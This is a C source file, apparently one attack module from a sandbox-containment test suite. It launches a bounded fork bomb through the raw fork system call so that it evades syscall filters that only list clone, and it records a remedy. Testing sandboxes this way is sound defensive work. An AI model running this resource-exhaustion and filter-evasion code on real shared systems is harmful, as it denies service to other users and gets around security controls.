// SPDX-License-Identifier: MIT
/*
 * raw-fork.c - a process bomb by the system call fork(2) itself.
 *
 * Goal: fill the task budget, so that nobody else in the instance can start anything.
 * Means: glibc's fork() is clone(2) in disguise. A filter written after a look at strace lists
 * clone, and never sees call number 57.
 */
#include "attacks/attack.h"

#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TASKS 220

static enum claim run(const struct brief *b)
{
	pid_t child[TASKS];
	enum claim claim;

	attempting(b);
	for (int i = 0; i < TASKS; i++) {
		child[i] = (pid_t)syscall(SYS_fork);
		if (!child[i]) {
			sleep(5);
			_exit(0);
		}
		if (child[i] > 0)
			continue;
		claim = denied("fork");
		while (i-- > 0)
			kill(child[i], SIGKILL);
		return claim;
	}
	return hold();
}

const struct attack attack = {
	.effect = "more processes than the budget",
	.means = "the fork(2) system call, which glibc never makes and naive filters do not list",
	.oracle = "census",
	.needs = NEED_X86_64,
	.id = "FORK-02",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "an allow list: fork, vfork, clone and clone3 all decided; RLIMIT_NPROC as a "
		  "second wall",
	.run = run,
};
